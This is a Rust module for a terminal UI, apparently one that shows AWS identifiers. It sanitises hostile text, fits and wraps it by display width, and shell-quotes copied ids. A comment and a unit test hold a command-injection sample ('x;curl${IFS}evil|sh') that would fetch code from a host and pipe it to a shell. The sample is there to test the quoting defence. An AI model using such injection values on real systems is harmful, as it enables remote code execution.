//! Turning hostile text into cells: sanitise, then fit to a width by display columns.
//!
//! Text is measured and cut by grapheme cluster, as the terminal (and ratatui) draws it: a base
//! character with its combining marks or its emoji variation selector is one unit, never split,
//! and its width is the cluster's (`🏳️` is two columns, not one).

use crate::sanitize::sanitize;
use unicode_segmentation::UnicodeSegmentation;
use unicode_width::UnicodeWidthStr;

/// The grapheme clusters of `text` with their display widths.
fn clusters(text: &str) -> impl DoubleEndedIterator<Item = (usize, &str, usize)> {
    text.grapheme_indices(true).map(|(i, g)| (i, g, g.width()))
}

/// 12,345: a count people read at a glance.
pub fn thousands(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Sanitised and cut to `width` display columns, with `…` where it was cut.
pub fn fit(text: &str, width: usize) -> String {
    let clean = sanitize(text);
    if clean.width() <= width {
        return clean.into_owned();
    }
    if width == 0 {
        return String::new();
    }
    let mut out = String::new();
    let mut used = 0;
    for (_, g, w) in clusters(&clean) {
        if used + w > width - 1 {
            break;
        }
        out.push_str(g);
        used += w;
    }
    out.push('…');
    out
}

/// An id as one shell word: left as it is when it holds only characters no shell treats
/// specially, else single-quoted. A copied id is pasted into a shell; a Cognito username or a
/// custom finding id can be `x;curl evil|sh`.
pub fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_string();
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Sanitised, on one line (line breaks become spaces).
pub fn one_line(text: &str) -> std::borrow::Cow<'_, str> {
    sanitize(text)
}

/// Sanitised and cut to the last `width` display columns (the end of typed input, where the
/// cursor is). One pass from the end: a pasted 3,000-character line costs no more than its length.
pub fn fit_tail(text: &str, width: usize) -> String {
    let clean = sanitize(text);
    let mut used = 0;
    let mut start = clean.len();
    for (i, _, w) in clusters(&clean).rev() {
        if used + w > width {
            break;
        }
        used += w;
        start = i;
    }
    clean[start..].to_string()
}

/// Sanitised text wrapped at word boundaries into lines of at most `width` columns; words longer
/// than a line are split.
pub fn wrap(text: &str, width: usize) -> Vec<String> {
    let width = width.max(1);
    let clean = sanitize(text);
    let mut lines = Vec::new();
    let mut line = String::new();
    let mut used = 0;
    for word in clean.split(' ') {
        let word_width = word.width();
        if used > 0 && used + 1 + word_width > width {
            lines.push(std::mem::take(&mut line));
            used = 0;
        }
        if used > 0 {
            line.push(' ');
            used += 1;
        }
        for (_, g, w) in clusters(word) {
            if used > 0 && used + w > width {
                lines.push(std::mem::take(&mut line));
                used = 0;
            }
            line.push_str(g);
            used += w;
        }
    }
    if !line.is_empty() || lines.is_empty() {
        lines.push(line);
    }
    lines
}

pub fn width(text: &str) -> usize {
    text.width()
}

/// The detail view's fields laid out at `width` columns: (label, value part) per screen line, the
/// label on the first line of each field only. Shared by the drawing and by the app's scrolling,
/// so the scroll range is the wrapped text's, not the unwrapped one's.
pub fn field_layout(fields: &[(String, String)], width: usize) -> (usize, Vec<(String, String)>) {
    let label_width = fields.iter().map(|(l, _)| sanitize(l).width()).max().unwrap_or(0).min(18);
    let value_width = width.saturating_sub(label_width + 2).max(8);
    let mut lines = Vec::new();
    for (label, value) in fields {
        for (i, part) in wrap(value, value_width).into_iter().enumerate() {
            let label_text = if i == 0 { fit(label, label_width) } else { String::new() };
            lines.push((label_text, part));
        }
    }
    (label_width, lines)
}

/// A JSON value pretty-printed, sanitised line by line (serde escapes control characters, not bidi
/// or invisible ones) and hard-wrapped at `width` display columns.
pub fn json_layout(value: &serde_json::Value, width: usize) -> Vec<String> {
    let text = serde_json::to_string_pretty(value).unwrap_or_default();
    let width = width.max(8);
    let mut out = Vec::new();
    for line in crate::sanitize::sanitize_lines(&text) {
        let mut current = String::new();
        let mut used = 0;
        for (_, g, w) in clusters(&line) {
            if used > 0 && used + w > width {
                out.push(std::mem::take(&mut current));
                used = 0;
            }
            current.push_str(g);
            used += w;
        }
        out.push(current);
    }
    out
}

/// The candidate at most two edits from `name` (the nearest), if any: for "did you mean".
pub fn closest<'a>(name: &str, candidates: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    candidates.map(|c| (edit_distance(name, c), c)).filter(|&(d, _)| d <= 2).min_by_key(|&(d, _)| d).map(|(_, c)| c)
}

fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diagonal = row[0];
        row[0] = i + 1;
        for (j, &cb) in b.iter().enumerate() {
            let above = row[j + 1];
            row[j + 1] = (above + 1).min(row[j] + 1).min(diagonal + usize::from(ca != cb));
            diagonal = above;
        }
    }
    row[b.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fit_cuts_by_display_width_and_sanitises() {
        assert_eq!(fit("abcdef", 4), "abc…");
        assert_eq!(fit("abc", 4), "abc");
        assert_eq!(fit("日本語テキスト", 5), "日本…");
        assert_eq!(fit("a\u{1b}[31mb", 5), "ab");
    }

    #[test]
    fn a_copied_id_is_one_inert_shell_word() {
        assert_eq!(shell_word("arn:aws:s3:::bucket/key-1"), "arn:aws:s3:::bucket/key-1");
        assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn fit_tail_keeps_the_end_by_display_width() {
        assert_eq!(fit_tail("abcdef", 3), "def");
        assert_eq!(fit_tail("ab", 3), "ab");
        assert_eq!(fit_tail("日本語", 4), "本語");
        assert_eq!(fit_tail("x\u{1b}[31my", 5), "xy");
        let long = "a".repeat(100_000);
        assert_eq!(fit_tail(&long, 10).len(), 10);
    }

    #[test]
    fn wrap_breaks_on_words_and_splits_long_ones() {
        assert_eq!(wrap("one two three", 7), vec!["one two", "three"]);
        assert_eq!(wrap("abcdefghij", 4), vec!["abcd", "efgh", "ij"]);
        assert_eq!(wrap("", 4), vec![""]);
    }
}
